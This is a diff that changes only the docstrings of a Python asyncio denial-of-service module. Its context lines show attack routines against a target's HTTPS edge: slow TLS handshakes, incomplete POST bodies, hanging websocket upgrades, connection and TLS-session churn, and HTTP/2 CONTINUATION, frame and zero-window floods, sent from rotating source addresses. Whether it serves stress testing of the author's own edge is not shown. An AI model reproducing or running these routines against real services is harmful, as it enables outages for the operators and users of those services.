@@ -137,7 +137,7 @@ async def _slow_read(attack: Attack, number: int, answers: Counter[str]) -> None
 
 
 async def _slow_handshake(attack: Attack, number: int, answers: Counter[str]) -> None:
-    """A ClientHello that comes byte by byte."""
+    """Send a ClientHello byte by byte."""
     source = attack.sources[number % len(attack.sources)]
     reader, writer = await asyncio.open_connection(attack.target.address, 443, local_addr=(source, 0))
     writer.write(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
@@ -145,7 +145,7 @@ async def _slow_handshake(attack: Attack, number: int, answers: Counter[str]) ->
 
 
 async def _small_body(attack: Attack, number: int, answers: Counter[str]) -> None:
-    """A body that is small enough for one buffer, and is never whole."""
+    """Send a body that is small enough for one buffer, and is never whole."""
     reader, writer = await _open(attack, number)
     head = f"POST / HTTP/1.1\r\nHost: {attack.target.name}\r\nContent-Length: 9000\r\n\r\n"
     writer.write(head.encode())
@@ -160,7 +160,7 @@ async def _chunks(attack: Attack, number: int, answers: Counter[str]) -> None:
 
 
 async def _upgrade(attack: Attack, number: int, answers: Counter[str]) -> None:
-    """What a websocket asks, and then silence."""
+    """Ask what a websocket asks, and say nothing more."""
     reader, writer = await _open(attack, number)
     asked = f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
     asked += "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
@@ -200,7 +200,7 @@ async def _big_headers(attack: Attack, number: int, answers: Counter[str]) -> No
 
 
 async def _new_connections(attack: Attack, number: int, answers: Counter[str]) -> None:
-    """Connections that are closed as soon as they are there."""
+    """Open connections that are closed as soon as they are there."""
     source = attack.sources[number % len(attack.sources)]
     while True:
         _, writer = await asyncio.open_connection(attack.target.address, 443, local_addr=(source, 0))
@@ -208,7 +208,7 @@ async def _new_connections(attack: Attack, number: int, answers: Counter[str]) -
 
 
 async def _new_sessions(attack: Attack, number: int, answers: Counter[str]) -> None:
-    """The same with a whole TLS handshake, which costs the edge more than it costs us."""
+    """Do the same with a whole TLS handshake, which costs the edge more than it costs us."""
     while True:
         _, writer = await _open(attack, number)
         writer.transport.abort()
@@ -260,7 +260,7 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
 
 
 def _headers_frame(name: str, stream: int) -> bytes:
-    """A GET of / in HPACK: three entries of its static table, and the authority as it is."""
+    """Return a GET of / in HPACK: three entries of its static table, and the authority as it is."""
     return _frame(1, 5, stream, b"\x82\x84\x87\x01" + bytes([len(name)]) + name.encode())
 
 
@@ -281,7 +281,7 @@ async def _h2_flood(attack: Attack, number: int, answers: Counter[str], reset: b
 
 
 async def _h2_continuations(attack: Attack, number: int, answers: Counter[str]) -> None:
-    """A header that does not end, in small frames."""
+    """Send a header that does not end, in small frames."""
     reader, writer = await _open(attack, number, ["h2"])
     writer.write(PREFACE + _frame(1, 1, 1, b"\x82\x84\x87"))
 
@@ -296,7 +296,7 @@ async def _h2_continuations(attack: Attack, number: int, answers: Counter[str]) 
 
 
 async def _h2_frames(attack: Attack, number: int, answers: Counter[str], frame: bytes) -> None:
-    """The same small frame over and over; each asks for an answer."""
+    """Send the same small frame over and over; each asks for an answer."""
     reader, writer = await _open(attack, number, ["h2"])
     writer.write(PREFACE)
 
@@ -318,7 +318,7 @@ async def _h2_settings(attack: Attack, number: int, answers: Counter[str]) -> No
 
 
 async def _h2_no_window(attack: Attack, number: int, answers: Counter[str]) -> None:
-    """Answers that are asked for, and no byte of which may be sent."""
+    """Ask for answers, no byte of which may be sent."""
     reader, writer = await _open(attack, number, ["h2"])
     writer.write(PREFACE + _frame(4, 0, 0, b"\x00\x04" + bytes(4)))
     writer.write(b"".join(_headers_frame(attack.target.name, stream) for stream in range(1, 41, 2)))
